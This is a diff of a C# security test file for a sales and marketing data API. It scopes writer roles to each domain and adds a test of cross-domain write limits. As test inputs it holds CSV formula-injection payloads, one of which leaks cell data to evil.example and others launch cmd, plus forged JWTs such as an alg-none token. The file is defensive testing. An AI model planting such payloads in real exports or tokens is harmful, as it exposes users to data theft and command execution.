@@ -24,7 +24,7 @@ public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<D
     [InlineData("marketing")]
     public async Task Text_with_a_nul_byte_is_refused_and_leaves_every_pooled_connection_working(string domain)
     {
-        var client = apps.Client(domain, "writer");
+        var client = apps.Client(domain, $"{domain}-writer");
         var (url, hostile, field, valid) = domain == "sales"
             ? ("/orders", Order("Ann\u0000Lee"), "salesRep", Order("Ann Lee"))
             : ("/leads", Lead("Nora", company: "Ac\u0000me"), "company", Lead("Nora"));
@@ -54,7 +54,7 @@ public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<D
     {
         var anonymous = apps.Api("sales");
         var reader = apps.Client("sales");
-        var writer = apps.Client("marketing", "writer");
+        var writer = apps.Client("marketing", "marketing-writer");
         var cases = new (HttpClient Client, HttpRequestMessage Request, int Status)[]
         {
             (anonymous, new(HttpMethod.Get, "/datasets/nope"), 404),
@@ -84,8 +84,8 @@ public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<D
     [Fact]
     public async Task An_idempotency_key_belongs_to_its_caller()
     {
-        var ann = apps.ClientAs("sales", "ann", "writer");
-        var bob = apps.ClientAs("sales", "bob", "writer");
+        var ann = apps.ClientAs("sales", "ann", "sales-writer");
+        var bob = apps.ClientAs("sales", "bob", "sales-writer");
         var key = Guid.NewGuid().ToString();
 
         var first = await ann.PostAsync("/orders", Keyed(Order("Ann Lee"), key));
@@ -124,7 +124,7 @@ public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<D
     [Fact]
     public async Task Csv_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text()
     {
-        var writer = apps.Client("marketing", "writer");
+        var writer = apps.Client("marketing", "marketing-writer");
         const string hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
         const string command = "+cmd|' /C calc'!A0";
         const string at = "@SUM(1+1)*cmd|' /C calc'!A0";
@@ -178,7 +178,7 @@ public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<D
             ["expired"] = apps.TokenExpiring(DateTime.UtcNow.AddMinutes(-10)),
             ["forged signature"] = valid[..^4] + "AAAA",
             ["issuer evil"] = $"{parts[0]}.{Payload($$"""{"iss":"evil","aud":"{{DataProductApps.Audience}}","sub":"x","exp":{{now + 600}}}""")}.{parts[2]}",
-            ["alg none"] = $"{Payload("""{"alg":"none","typ":"JWT"}""")}.{Payload($$"""{"iss":"{{DataProductApps.Issuer}}","aud":"{{DataProductApps.Audience}}","sub":"x","exp":{{now + 600}},"role":"writer"}""")}.",
+            ["alg none"] = $"{Payload("""{"alg":"none","typ":"JWT"}""")}.{Payload($$"""{"iss":"{{DataProductApps.Issuer}}","aud":"{{DataProductApps.Audience}}","sub":"x","exp":{{now + 600}},"role":"sales-writer"}""")}.",
             ["unknown key"] = $"{Payload("""{"alg":"HS256","kid":"nope","typ":"JWT"}""")}.{parts[1]}.{parts[2]}",
             ["garbage"] = "not-a-token",
         };
@@ -216,10 +216,10 @@ public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<D
     public async Task Names_that_are_invisible_or_reorder_text_are_refused(string what, string name)
     {
         var before = await apps.Databases.ScalarAsync<long>("marketing", "SELECT count(*) FROM leads");
-        var lead = await apps.Client("marketing", "writer").PostAsync("/leads", Body(Lead(name)));
+        var lead = await apps.Client("marketing", "marketing-writer").PostAsync("/leads", Body(Lead(name)));
         Assert.True(lead.StatusCode == HttpStatusCode.BadRequest, $"{what}: {(int)lead.StatusCode}");
         await lead.ProblemAsync(400, "firstName");
-        await (await apps.Client("sales", "writer").PostAsync("/orders", Body(Order(name)))).ProblemAsync(400, "salesRep");
+        await (await apps.Client("sales", "sales-writer").PostAsync("/orders", Body(Order(name)))).ProblemAsync(400, "salesRep");
         Assert.Equal(before, await apps.Databases.ScalarAsync<long>("marketing", "SELECT count(*) FROM leads"));
     }
 
@@ -231,7 +231,7 @@ public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<D
     [InlineData("O'Brien-Smith")]
     public async Task Names_in_any_script_are_accepted(string name)
     {
-        var created = await (await apps.Client("marketing", "writer").PostAsync("/leads", Body(Lead(name)))).JsonAsync(HttpStatusCode.Created);
+        var created = await (await apps.Client("marketing", "marketing-writer").PostAsync("/leads", Body(Lead(name)))).JsonAsync(HttpStatusCode.Created);
         Assert.Equal(name, await apps.Databases.ScalarAsync<string>("marketing", $"SELECT first_name FROM leads WHERE lead_id = {created.GetProperty("leadId").GetInt64()}"));
     }
 
@@ -239,7 +239,38 @@ public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<D
     public async Task A_lone_surrogate_is_refused_without_a_5xx()
     {
         var body = Order("Ann").Replace("\"Ann\"", "\"An\\ud800n\"", StringComparison.Ordinal);
-        var response = await apps.Client("sales", "writer").PostAsync("/orders", Body(body));
+        var response = await apps.Client("sales", "sales-writer").PostAsync("/orders", Body(body));
         await response.ProblemAsync(400);
+    }
+
+    [Fact]
+    public async Task A_writer_writes_only_its_own_domain_and_one_sign_in_reads_both()
+    {
+        var salesWriter = apps.Token("sales-writer");
+        HttpClient As(string domain, string token)
+        {
+            var client = apps.Api(domain);
+            client.DefaultRequestHeaders.Authorization = new("Bearer", token);
+            return client;
+        }
+
+        var leadsBefore = await apps.Databases.ScalarAsync<long>("marketing", "SELECT count(*) FROM leads");
+        Assert.Equal(HttpStatusCode.Created, (await As("sales", salesWriter).PostAsync("/orders", Body(Order("Ann Lee")))).StatusCode);
+        await (await As("marketing", salesWriter).PostAsync("/leads", Body(Lead("Nora")))).ProblemAsync(403);
+        await (await As("marketing", salesWriter).PostAsync("/campaigns/1/metrics", Body("""{"metricDate": "2020-01-01", "impressions": 1, "clicks": 0, "conversions": 0, "costPerClick": 0}""")))
+            .ProblemAsync(403);
+        Assert.Equal(leadsBefore, await apps.Databases.ScalarAsync<long>("marketing", "SELECT count(*) FROM leads"));
+
+        // The same token reads both domains.
+        Assert.Equal(HttpStatusCode.OK, (await As("sales", salesWriter).GetAsync("/datasets/orders/rows?limit=1")).StatusCode);
+        Assert.Equal(HttpStatusCode.OK, (await As("marketing", salesWriter).GetAsync("/datasets/leads/rows?limit=1")).StatusCode);
+
+        // A bare role names no domain and writes none; stewardship is per domain too; a token may carry both domains' roles.
+        await (await As("sales", apps.Token("writer")).PostAsync("/orders", Body(Order("Ann Lee")))).ProblemAsync(403);
+        await (await As("marketing", apps.Token("sales-steward")).PostAsync("/quality/runs", null)).ProblemAsync(403);
+        await (await As("sales", apps.Token("steward")).PostAsync("/quality/runs", null)).ProblemAsync(403);
+        var both = apps.Token("sales-writer", "marketing-writer");
+        Assert.Equal(HttpStatusCode.Created, (await As("sales", both).PostAsync("/orders", Body(Order("Ann Lee")))).StatusCode);
+        Assert.Equal(HttpStatusCode.Created, (await As("marketing", both).PostAsync("/leads", Body(Lead("Nora")))).StatusCode);
     }
 }
